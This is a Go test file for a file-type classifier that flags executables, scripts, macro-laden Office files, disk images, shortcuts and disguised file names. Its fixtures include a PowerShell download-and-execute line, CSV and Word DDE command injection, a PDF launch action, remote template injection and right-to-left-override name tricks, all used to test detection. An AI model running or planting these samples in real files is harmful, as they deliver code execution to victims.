package content

import (
	"bytes"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// classes is the classes of matches, in order.
func classes(all []Match) string {
	var names []string
	for _, m := range all {
		names = append(names, m.Class)
	}
	slices.Sort(names)
	return strings.Join(names, " ")
}

func pe(at int) string {
	b := make([]byte, at+64)
	copy(b, "MZ")
	b[60], b[61], b[62] = byte(at), byte(at>>8), byte(at>>16)
	copy(b[at:], "PE\x00\x00")
	return string(b)
}

// printable is a program whose first header is text but for where it points.
func printable() string {
	b := []byte(pe(300))
	for i := 2; i < 60; i++ {
		b[i] = 'A'
	}
	return string(b)
}

func utf16Of(bom, s string, big bool) string {
	var b bytes.Buffer
	b.WriteString(bom)
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b.Write([]byte{byte(u >> 8), byte(u)})
		} else {
			b.Write([]byte{byte(u), byte(u >> 8)})
		}
	}
	return b.String()
}

func at(offset int, magic string, size int) string {
	b := make([]byte, max(size, offset+len(magic)))
	copy(b[offset:], magic)
	return string(b)
}

func disk(partition bool) string {
	b := []byte(at(510, "\x55\xaa", 128<<10))
	if partition {
		b[446+4], b[446+12] = 7, 1
	} else {
		copy(b, "\xeb\x3c\x90MSDOS5.0")
		copy(b[54:], "FAT16   ")
	}
	return string(b)
}

const rels = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="%s"/></Relationships>`

func TestIdentify(t *testing.T) {
	note := oneNoteFile + "structures" + oneNoteObject + "\x05\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00", 12)
	for _, c := range []struct{ what, content, want string }{
		{"PE", pe(128), WindowsExecutables},
		{"PE far away", pe(200_000), WindowsExecutables},
		{"PE in text", printable(), WindowsExecutables},
		{"MZ of DOS", "MZ\x01\x00\x02\x00", WindowsExecutables},
		{"ZM", "ZM\x01\x00\x02\x00", WindowsExecutables},
		{"EICAR", eicarBegin + eicarEnd, WindowsExecutables},
		{"ELF", "\x7fELF\x02\x01\x01", UnixExecutables},
		{"Mach-O", "\xcf\xfa\xed\xfe\x07\x00\x00\x01", MacExecutables},
		{"Mach-O, fat", "\xca\xfe\xba\xbe\x00\x00\x00\x02\x01\x00\x00\x07", MacExecutables},
		{"Java", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x10", Java},
		{"JAR's manifest", "Manifest-Version: 1.0\r\nMain-Class: a.B\r\n", Java},
		{"DEX", "dex\n035\x00", Android},
		{"LNK", "\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00", Shortcuts},
		{"CHM", "ITSF\x03\x00\x00\x00\x60", HelpFiles},
		{"Flash", "CWS\x0a\x00\x10\x00\x00\x78\xda", Flash},
		{"ISO", at(32769, "CD001", 0), DiskImages},
		{"UDF", at(32769, "BEA01", 0), DiskImages},
		{"VHD", at(4096-512, "conectix", 4096), DiskImages},
		{"VHDX", "vhdxfile", DiskImages},
		{"DMG", at(4096-512, "koly\x00\x00\x00\x04", 4096), DiskImages},
		{"FAT", disk(false), DiskImages},
		{"partitions", disk(true), DiskImages},
		{"deb", "!<arch>\ndebian-binary   ", Installers},
		{"OneNote with a file", note + "<html>", OneNoteEmbedded},
		{"OneNote with a picture", note + "\x89PNG\r\n\x1a\n", ""},
		{"OneNote with both", note + "\x89PNG\r\n\x1a\n" + note + "MZ\x90\x00", OneNoteEmbedded},
		{"RTF", `{\rtf1\ansi Hello}`, ""},
		{"RTF with an object", `{\rt {\object\objemb{\*\objdata 0105}}}`, RTFObjects},
		{"RTF with a template", `{\rtf1 {\*\template http://x.example/a.dotm}}`, OfficeTemplates},
		{"PDF", "%PDF-1.7\n1 0 obj <</Type /Catalog>>", ""},
		{"PDF that starts a program", "%PDF-1.7\n<</S /Launch /F (cmd.exe)>>", PDFActive},
		{"PDF with a hidden script", "%PDF-1.7\n<</S /J#61vaScript /J#53 (x)>>", PDFActive},
		{"#!", "#!/bin/sh\necho\n", Scripts},
		{"#! with a mark", "\xef\xbb\xbf#! /usr/bin/perl\n", Scripts},
		{"batch", "\r\n@ECHO OFF\r\ndel x\r\n", Scripts},
		{"HTA", "<html><head><HTA:APPLICATION id=x></head>", Scripts},
		{"JScript", "// a comment\nvar x = new ActiveXObject('WScript.Shell');\nx.Run('calc');", Scripts},
		{"VBScript", "On Error Resume Next\nSet s = CreateObject(\"WScript.Shell\")\n", Scripts},
		{"VBScript in UTF-16", utf16Of("\xff\xfe", "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\n", false), Scripts},
		{"VBScript in UTF-16, big", utf16Of("\xfe\xff", "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\n", true), Scripts},
		{"PowerShell", "$c = New-Object Net.WebClient\nInvoke-Expression $c.DownloadString('http://x')", Scripts},
		{"PowerShell's command", "powershell.exe -nop -ExecutionPolicy Bypass -File x.ps1", Scripts},
		{"WSF", "<job id='x'><script language='JScript'>x()</script></job>", Scripts},
		{"registry", "Windows Registry Editor Version 5.00\r\n", Scripts},
		{"autorun", "[AutoRun]\r\nopen=a.exe\r\n", Scripts},
		{"encoded script", "#@~^XAAAAA==", Scripts},
		{"URL", "[InternetShortcut]\r\nURL=file://x/y\r\n", Shortcuts},
		{"SCF", "[Shell]\r\nCommand=2\r\nIconFile=\\\\x\\y\r\n", Shortcuts},
		{"library-ms", `<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">`, Shortcuts},
		{"search-ms", `<?xml version="1.0"?><persistedQuery version="1.0">`, Shortcuts},
		{"settingcontent-ms", `<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>x</DeepLink>`, Shortcuts},
		{"rdp", "full address:s:x.example\r\n", Shortcuts},
		{"content types", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`, ""},
		{"content types with macros", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`, OfficeMacros},
		{"content types with macros, encoded", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override ContentType="application/vnd.ms-word.document.macro&#69;nabled.main+xml"/></Types>`, OfficeMacros},
		{"content types with a project", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`, OfficeMacros},
		{"a link", fmt.Sprintf(rels, "hyperlink", "http://x.example", "External"), ""},
		{"a picture from elsewhere", fmt.Sprintf(rels, "image", "http://x.example/a.png", "External"), ""},
		{"a template from elsewhere", fmt.Sprintf(rels, "attachedTemplate", "http://x.example/a.dotm", "External"), OfficeTemplates},
		{"a template of the author's", fmt.Sprintf(rels, "attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm", "External"), ""},
		{"an object from elsewhere", fmt.Sprintf(rels, "oleObject", "http://x.example/a.html!", "External"), OfficeTemplates},
		{"an object", fmt.Sprintf(rels, "oleObject", "embeddings/oleObject1.bin", "Internal"), OfficeEmbedded},
		{"DDE", `<w:document><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:document>`, OfficeMacros},
		{"Excel 4 macros", `<xm:macrosheet xmlns:xm="x">`, OfficeMacros},
		{"Word's XML with macros", `<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes">`, OfficeMacros},
		{"SYLK", "ID;P\nO;E\nC;X1;Y1;EEXEC(\"calc\")\n", OfficeMacros},
		{"ActiveMime", "ActiveMime\x00\x00\x01\xf0", OfficeMacros},
		// What is nothing.
		{"empty", "", ""},
		{"a letter", "MZ-Plus is a magazine.\nIt is published in München by the CWS Verlag, and its readers like it.\n", ""},
		{"a letter about scripts", "Set up the server, please: run wscript.exe x.vbs, then call CreateObject(\"WScript.Shell\") in it.\n", ""},
		{"a page about scripts", "<html><body>new ActiveXObject('WScript.Shell') is <b>bad</b>, macroEnabled content-types too</body></html>", ""},
		{"notes in Markdown", "# Notes\n\n[a link](https://x.example): use `Invoke-WebRequest` there\n", ""},
		{"a program in C", "#include <stdio.h>\nint main(void) { return 0; }\n", ""},
		{"a program in JavaScript", "var x = 1;\nconsole.log(x);\n", ""},
		{"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", ""},
		{"JPEG", "\xff\xd8\xff\xe0\x00\x10JFIF\x00", ""},
		{"zip", "PK\x03\x04\x14\x00\x00\x00", ""},
		{"INI", "[settings]\nkey=value\n", ""},
		{"calendar", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", ""},
		{"text in UTF-16", utf16Of("\xff\xfe", "An ordinary letter.\r\n", false), ""},
		{"SVG", `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>`, ""},
	} {
		got := Identify("", strings.NewReader(c.content), int64(len(c.content)))
		if classes(got) != c.want {
			t.Errorf("%s: %v, want %q", c.what, got, c.want)
		}
	}
}

func TestTables(t *testing.T) {
	const dde = "name,=cmd|' /c calc'!A1\n"
	if got := classes(Identify("a.CSV ", strings.NewReader(dde), int64(len(dde)))); got != OfficeMacros {
		t.Errorf("a table: %q", got)
	}
	if got := classes(Identify("", strings.NewReader(dde), int64(len(dde)))); got != "" {
		t.Errorf("text that is no table: %q", got)
	}
}

func TestByName(t *testing.T) {
	for _, c := range []struct{ name, class, disguise string }{
		{"setup.exe", WindowsExecutables, ""},
		{"SETUP.EXE", WindowsExecutables, ""},
		{"invoice.pdf.exe", WindowsExecutables, disguiseDouble},
		{"invoice.pdf          .exe", WindowsExecutables, disguiseBlanks},
		{"invoice.pdf\u202eexe.", WindowsExecutables, disguiseBidi},
		{"invoice\u202efdp.exe", WindowsExecutables, ""},
		{"a.exe ", WindowsExecutables, disguiseEnd},
		{"a.exe.", WindowsExecutables, disguiseEnd},
		{"a.exe. . .", WindowsExecutables, disguiseEnd},
		{"a.exe\u00a0", WindowsExecutables, disguiseEnd},
		{"a.e\x00xe", WindowsExecutables, disguiseNUL},
		{"a.exe\x00.txt", WindowsExecutables, disguiseNUL},
		{"a.\uff45\uff58\uff45", WindowsExecutables, disguiseWide},
		{"a\uff0eexe", WindowsExecutables, disguiseWide},
		{"a\u3002exe", WindowsExecutables, disguiseWide},
		{"a.e\u200bxe", WindowsExecutables, disguiseHidden},
		{"a.e\u00adxe", WindowsExecutables, disguiseHidden},
		{"a.exe::$DATA", WindowsExecutables, disguiseStream},
		{"a.txt:b.exe", WindowsExecutables, ""},
		{"a%2Eexe", WindowsExecutables, disguiseEncoded},
		{`C:\x\a.exe`, WindowsExecutables, ""},
		{"../../a.sh", Scripts, ""},
		{"\"a.exe\"", WindowsExecutables, disguiseEnd},
		{"b\xfccher.exe", WindowsExecutables, ""},
		{"a.{3050F4D8-98B5-11CF-BB82-00AA00BDCE0B}", Shortcuts, disguiseCLSID},
		{"a.docm", OfficeMacros, ""},
		{"a.iso", DiskImages, ""},
		{"a.ps1", Scripts, ""},
		{"a.library-ms", Shortcuts, ""},
		{strings.Repeat("x", 10_000) + ".exe", WindowsExecutables, ""},
		{"a.txt", "", ""},
		{"exe", "", ""},
		{"", "", ""},
		{"...", "", ""},
		{"a.exe.txt", "", ""},
		{"Grüße aus Köln.pdf", "", ""},
		{"שלום.docx", "", ""},
		{"報告。2024.xlsx", "", ""},
		{"100%.pdf", "", ""},
		{"Re: hello", "", ""},
		{"a.tar.gz", "", ""},
	} {
		all := ByName(c.name)
		if classes(all) != c.class || len(all) > 0 && all[0].Disguise != c.disguise {
			t.Errorf("%q: %+v, want %q disguised by %q; readings %+v", c.name, all, c.class, c.disguise, first(Readings(c.name)))
		}
	}
}

func TestClasses(t *testing.T) {
	seen := map[string]string{}
	for _, c := range Classes() {
		if c.Text == "" || c.Name == "" || seen[c.Name] != "" {
			t.Errorf("class %q", c.Name)
		}
		seen[c.Name] = "class"
		for _, e := range c.Extensions {
			if e != strings.ToLower(e) || strings.HasPrefix(e, ".") || seen["."+e] != "" {
				t.Errorf("extension %q of %s, and of %s", e, c.Name, seen["."+e])
			}
			seen["."+e] = c.Name
		}
	}
	for _, k := range kinds() {
		if seen[k.class] == "" {
			t.Errorf("%s is of no class", k.what)
		}
	}
}

const viruscan = "# the file of the viruscan patch\n\nTVqQAAMAA\nTVpQAAIAA  \nUEsDB*QAA\n**oSecond\n"

func TestSignatures(t *testing.T) {
	s, err := ParseSignatures(strings.NewReader(viruscan))
	if err != nil || s.Len() != 4 {
		t.Fatalf("%d, %v", s.Len(), err)
	}
	for line, want := range map[string]string{
		"TVqQAAMAAAAEAAAA": "TVqQAAMAA",
		"TVpQAAIAAA\r\n":   "TVpQAAIAA",
		"TVqQAAMAA":        "", // not longer
		"tvqqaamaaaaa":     "",
		" TVqQAAMAAAAA":    "",
		"UEsDBBQAAAAI":     "UEsDB*QAA",
		"UEsDBAQAAAAI":     "UEsDB*QAA",
		"xyoSecond-":       "**oSecond",
		"":                 "",
	} {
		if got := s.Match([]byte(line)); got != want {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
	var none *Signatures
	if none.Match([]byte("TVqQ")) != "" || none.Len() != 0 {
		t.Error("no signatures match something")
	}
	for _, bad := range []string{"ok\n***\n", "ok\n" + strings.Repeat("x", maxSignature+1)} {
		if _, err := ParseSignatures(strings.NewReader(bad)); err == nil || !strings.HasPrefix(err.Error(), "line 2") {
			t.Errorf("%.20q: %v", bad, err)
		}
	}
}

func first(all []Reading, _ bool) []Reading { return all }

// TestReadingsBound: a name that people write has all of its readings, one made
// of every trick at once says that it has more, and has the plainest of them.
func TestReadingsBound(t *testing.T) {
	for _, name := range []string{
		"Re: FW: minutes of 12:30:15, room 4:7.eml", "\u200f\u05d3\u05d5\u05d7\u200f 2026\u200e-\u200e11\u200e-\u200e22\u200f.pdf", "100%25 of 50%25 (\u00bd).xlsx", "a\xfcb\xe9.doc",
	} {
		if all, whole := Readings(name); !whole {
			t.Errorf("%q: more than %d readings", name, len(all))
		}
	}
	hostile := strings.Repeat("a:\x00b\u202ec%3a%2500\u200bd\uff1a\u2066", 8) + ".\uff45\uff58\uff45"
	if all, whole := Readings(hostile); whole || len(all) > maxReadings {
		t.Errorf("%d readings, whole: %v", len(all), whole)
	}
	if got := classes(ByName(hostile)); !strings.Contains(got, WindowsExecutables) {
		t.Errorf("%q", got)
	}
}
